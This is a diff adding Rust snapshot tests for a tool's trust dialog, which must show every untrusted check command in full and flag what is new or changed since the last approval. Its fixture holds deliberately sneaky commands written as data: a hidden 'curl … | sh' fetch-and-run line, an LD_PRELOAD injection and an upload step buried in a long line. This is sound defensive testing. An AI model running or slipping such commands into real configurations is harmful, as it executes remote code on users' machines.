@@ -329,3 +329,134 @@ fn below_the_smallest_size_the_screen_says_so() {
     }
     insta::assert_snapshot!("too_small_59x15", render(&failing(59, 15), 59, 15));
 }
+
+/// The model untrusted, with `checks` (TOML `[[check]]` tables) as its configuration.
+fn untrusted_with(checks: &str, w: u16, h: u16) -> Model {
+    let mut m = sized(model(), w, h);
+    let config = config::load_str(checks, Path::new("preflight.toml"), Source::Default).unwrap();
+    m.set_config(config);
+    m.trusted = false;
+    m.watching = Watching::Off("not trusted".into());
+    m
+}
+
+const SNEAKY: &str = r#"
+[[check]]
+id = "build"
+run = """
+make build
+; curl -fsSL https://example.invalid/install.sh | sh
+"""
+env = { LD_PRELOAD = "/tmp/x.so" }
+
+[[check]]
+id = "long"
+run = "cargo test --workspace --all-features --no-fail-fast -- --include-ignored --test-threads=1 --nocapture && ./scripts/after-tests.sh --upload-results"
+"#;
+
+#[test]
+fn the_trust_dialog_shows_every_line_of_every_command_using_the_width() {
+    let mut m = untrusted_with(SNEAKY, 200, 60);
+    keys(&mut m, "T");
+    let screen = render(&m, 200, 60);
+    for line in [
+        "make build",
+        "; curl -fsSL https://example.invalid/install.sh | sh",
+        "env LD_PRELOAD=/tmp/x.so",
+        "--test-threads=1 --nocapture && ./scripts/after-tests.sh --upload-results",
+    ] {
+        assert!(
+            screen.contains(line),
+            "`{line}` is not shown whole:\n{screen}"
+        );
+    }
+    insta::assert_snapshot!("trust_sneaky_200x60", screen);
+    // At 80 columns the long line wraps; nothing is cut (at the end of the dialog).
+    let mut m = untrusted_with(SNEAKY, 80, 24);
+    keys(&mut m, "TG");
+    let screen = render(&m, 80, 24);
+    let flat: String = screen
+        .lines()
+        .map(|l| l.trim_matches(|c: char| c == '│' || c == ' '))
+        .collect::<Vec<_>>()
+        .join("");
+    assert!(flat.contains("./scripts/after-tests.sh"), "{screen}");
+    assert!(flat.contains("--upload-results"), "{screen}");
+    insta::assert_snapshot!("trust_sneaky_80x24", screen);
+}
+
+#[test]
+fn y_trusts_only_once_the_end_of_the_commands_was_shown() {
+    let many: String = (0..30)
+        .map(|i| format!("[[check]]\nid = \"c{i}\"\nrun = \"echo {i}\"\n"))
+        .collect();
+    let mut m = untrusted_with(&many, 80, 24);
+    keys(&mut m, "T");
+    assert!(
+        keys(&mut m, "y").is_empty(),
+        "y before the end trusts nothing"
+    );
+    assert!(m
+        .notice
+        .as_ref()
+        .unwrap()
+        .text
+        .contains("read to the end first"));
+    assert!(
+        matches!(m.overlay, Some(Overlay::Trust { .. })),
+        "still open"
+    );
+    keys(&mut m, "jj");
+    assert_eq!(m.overlay, Some(Overlay::Trust { scroll: 2 }));
+    let screen = render(&m, 80, 24);
+    assert!(screen.contains("more lines"), "{screen}");
+    keys(&mut m, "G");
+    let screen = render(&m, 80, 24);
+    assert!(screen.contains("echo 29"), "{screen}");
+    assert_eq!(keys(&mut m, "y"), [Effect::Trust]);
+    // Any other key cancels.
+    let mut m = untrusted_with(&many, 80, 24);
+    keys(&mut m, "Tx");
+    assert!(m.overlay.is_none());
+}
+
+#[test]
+fn trusting_again_marks_what_is_new_changed_or_gone_since() {
+    let mut m = untrusted_with(SNEAKY, 120, 40);
+    m.trusted_before = Some(
+        [
+            ("build", "make build\nenv LD_PRELOAD=/tmp/x.so"),
+            ("gone", "rm -rf build"),
+        ]
+        .into_iter()
+        .map(|(a, b)| (a.to_string(), b.to_string()))
+        .collect(),
+    );
+    keys(&mut m, "T");
+    let screen = render(&m, 120, 40);
+    assert!(
+        screen.contains("Since you last trusted: 1 new, 1 changed, 1 removed"),
+        "{screen}"
+    );
+    assert!(
+        screen.contains("build changed since you last trusted"),
+        "{screen}"
+    );
+    assert!(screen.contains("+   ; curl -fsSL"), "{screen}");
+    assert!(
+        screen.contains("      make build"),
+        "unchanged lines unmarked:\n{screen}"
+    );
+    assert!(
+        screen.contains("long new since you last trusted"),
+        "{screen}"
+    );
+    assert!(screen.contains("gone removed: no longer runs"), "{screen}");
+    insta::assert_snapshot!("trust_again_120x40", screen);
+    // Once trusted, the record's text is what the next trust compares with.
+    update(&mut m, Msg::Trusted);
+    assert_eq!(
+        m.trusted_before.as_ref().unwrap()["build"],
+        "make build\n; curl -fsSL https://example.invalid/install.sh | sh\nenv LD_PRELOAD=/tmp/x.so"
+    );
+}
